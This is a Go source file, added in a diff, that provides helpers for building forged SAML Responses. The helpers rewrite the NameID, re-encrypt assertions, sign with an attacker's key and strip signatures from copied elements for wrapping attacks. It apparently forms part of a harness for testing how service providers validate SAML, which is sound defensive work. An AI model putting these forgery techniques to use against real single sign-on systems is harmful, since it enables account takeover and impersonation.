@@ -1,0 +1,228 @@
+package attack
+
+import (
+	"strings"
+	"time"
+
+	"github.com/beevik/etree"
+)
+
+// The vocabulary that attacks are written in. Paths are etree's, from the
+// Response, by local name.
+
+const (
+	top          = "."
+	asrt         = "./Assertion"
+	nameID       = "./Assertion/Subject/NameID"
+	subject      = "./Assertion/Subject"
+	confirmation = "./Assertion/Subject/SubjectConfirmation"
+	data         = "./Assertion/Subject/SubjectConfirmation/SubjectConfirmationData"
+	conditions   = "./Assertion/Conditions"
+	restriction  = "./Assertion/Conditions/AudienceRestriction"
+	authn        = "./Assertion/AuthnStatement"
+	statement    = "./Assertion/AttributeStatement"
+	statusCode   = "./Status/StatusCode"
+)
+
+// find gives an element of the document, and something to go on with where
+// there is none.
+func (d *draft) find(path string) *etree.Element {
+	if el := d.tree.Root().FindElement(path); el != nil {
+		return el
+	}
+	d.fail("the document has no %s", path)
+	return etree.NewElement("missing")
+}
+
+// in runs several changes of the tree one after the other.
+func in(changes ...func(*draft)) func(*draft) {
+	return func(d *draft) {
+		for _, c := range changes {
+			c(d)
+		}
+	}
+}
+
+func set(path, attr, value string) func(*draft) {
+	return func(d *draft) { d.find(path).CreateAttr(attr, value) }
+}
+
+// setAt sets an attribute to an instant relative to now.
+func setAt(path, attr string, offset time.Duration) func(*draft) {
+	return func(d *draft) { d.find(path).CreateAttr(attr, d.at(offset)) }
+}
+
+// edit rewrites an attribute.
+func edit(path, attr string, f func(string) string) func(*draft) {
+	return func(d *draft) {
+		el := d.find(path)
+		old := el.SelectAttrValue(attr, "")
+		el.CreateAttr(attr, d.changed(old, f(old)))
+	}
+}
+
+func unset(path, attr string) func(*draft) {
+	return func(d *draft) { d.find(path).RemoveAttr(attr) }
+}
+
+func remove(path string) func(*draft) {
+	return func(d *draft) {
+		el := d.find(path)
+		if el.Parent() != nil {
+			el.Parent().RemoveChild(el)
+		}
+	}
+}
+
+func setText(path, text string) func(*draft) {
+	return func(d *draft) { d.find(path).SetText(text) }
+}
+
+func editText(path string, f func(string) string) func(*draft) {
+	return func(d *draft) {
+		el := d.find(path)
+		el.SetText(d.changed(el.Text(), f(el.Text())))
+	}
+}
+
+// changed notes that an attack would be none, for example because there is no
+// letter to write in another case.
+func (d *draft) changed(old, changed string) string {
+	if old == changed {
+		d.fail("the attack does not change %q", old)
+	}
+	return changed
+}
+
+// add puts XML at the end of an element.
+func add(path, xml string) func(*draft) {
+	return func(d *draft) { d.find(path).AddChild(d.parse(xml)) }
+}
+
+// parse makes an element of XML; %audience%, %recipient% and so on stand for
+// the document's parameters.
+func (d *draft) parse(xml string) *etree.Element {
+	doc := etree.NewDocument()
+	if err := doc.ReadFromString(d.expand(xml)); err != nil || doc.Root() == nil {
+		d.fail("parsing %q: %v", xml, err)
+		return etree.NewElement("missing")
+	}
+	return doc.Root()
+}
+
+func (d *draft) expand(s string) string {
+	return strings.NewReplacer("%audience%", d.p.Audience, "%recipient%", d.p.Recipient, "%other%", d.p.OtherACS,
+		"%request%", d.p.RequestID, "%subject%", d.p.Subject, "%forged%", d.p.Forged, "%issuer%", d.p.Issuer,
+		"%now%", d.at(0), "%until%", d.at(lifetime), "%past%", d.at(-time.Hour), "%ns%", nsAssertion).Replace(s)
+}
+
+// replace changes the first occurrence of a text in the document.
+func replace(old, with string) func(*draft, string) string {
+	return func(d *draft, doc string) string {
+		old := d.expand(old)
+		if !strings.Contains(doc, old) {
+			d.fail("the document does not hold %q", old)
+		}
+		return strings.Replace(doc, old, d.expand(with), 1)
+	}
+}
+
+// beforeStatus puts text right after the start tag of the Response.
+func beforeStatus(text string) func(*draft, string) string {
+	return replace("<saml2p:Status>", text+"<saml2p:Status>")
+}
+
+// afterDeclaration puts text between the XML declaration and the Response.
+func afterDeclaration(text string) func(*draft, string) string {
+	return replace("<saml2p:Response", text+"<saml2p:Response")
+}
+
+// needsAttacker notes that a case can't be made without the attacker's key.
+func (d *draft) needsAttacker() bool {
+	if d.p.AttackerKey == nil {
+		d.fail("Params.AttackerKey is required")
+		return false
+	}
+	return true
+}
+
+// byAttacker makes the attacker sign in the identity provider's place.
+func byAttacker(d *draft) {
+	if d.needsAttacker() {
+		d.key = d.p.AttackerKey
+	}
+}
+
+// forge makes the subject of the document the one that the attacker wants.
+// Anybody can encrypt for the service provider, so encryption does not stop it.
+func forge(d *draft) {
+	d.forgeSubject(d.asrt)
+	old := d.tree.Root().SelectElement("EncryptedAssertion")
+	if old == nil {
+		return
+	}
+	parent, at := old.Parent(), old.Index()
+	parent.RemoveChildAt(at)
+	parent.InsertChildAt(at, d.encrypted("saml2:EncryptedAssertion", d.plaintext(d.asrt), *d.encryption))
+}
+
+// extensions gives the Response an empty samlp:Extensions, in its place before
+// Status (Core 3.2.2): the one part of a Response that may hold anything.
+func (d *draft) extensions() *etree.Element {
+	el := etree.NewElement("saml2p:Extensions")
+	d.tree.Root().InsertChildAt(d.find("./Status").Index(), el)
+	return el
+}
+
+// without gives a copy of an element without its own Signature.
+func without(el *etree.Element) *etree.Element {
+	out := el.Copy()
+	if s := out.SelectElement("Signature"); s != nil {
+		out.RemoveChild(s)
+	}
+	return out
+}
+
+// forgedAssertion is a copy of the assertion for somebody else, not signed.
+func (d *draft) forgedAssertion() *etree.Element {
+	out := without(d.asrt)
+	out.CreateAttr("ID", d.newID())
+	d.forgeSubject(out)
+	return out
+}
+
+func (d *draft) forgeSubject(assertion *etree.Element) {
+	if id := assertion.FindElement("./Subject/NameID"); id != nil {
+		id.SetText(d.p.Forged)
+		return
+	}
+	d.fail("the assertion has no NameID")
+}
+
+// forgedResponse is a copy of the Response with a forged assertion in it,
+// neither of them signed.
+func (d *draft) forgedResponse() *etree.Element {
+	out := without(d.resp)
+	out.CreateAttr("ID", d.newID())
+	old := out.SelectElement("Assertion")
+	at := old.Index()
+	out.RemoveChildAt(at)
+	out.InsertChildAt(at, d.forgedAssertion())
+	return out
+}
+
+// afterIssuer puts elements right after the Issuer of el, in order.
+func afterIssuer(el *etree.Element, children ...*etree.Element) {
+	at := el.SelectElement("Issuer").Index() + 1
+	for i, c := range children {
+		el.InsertChildAt(at+i, c)
+	}
+}
+
+// detach takes an element out of its parent.
+func detach(el *etree.Element) *etree.Element {
+	if el.Parent() != nil {
+		el.Parent().RemoveChild(el)
+	}
+	return el
+}
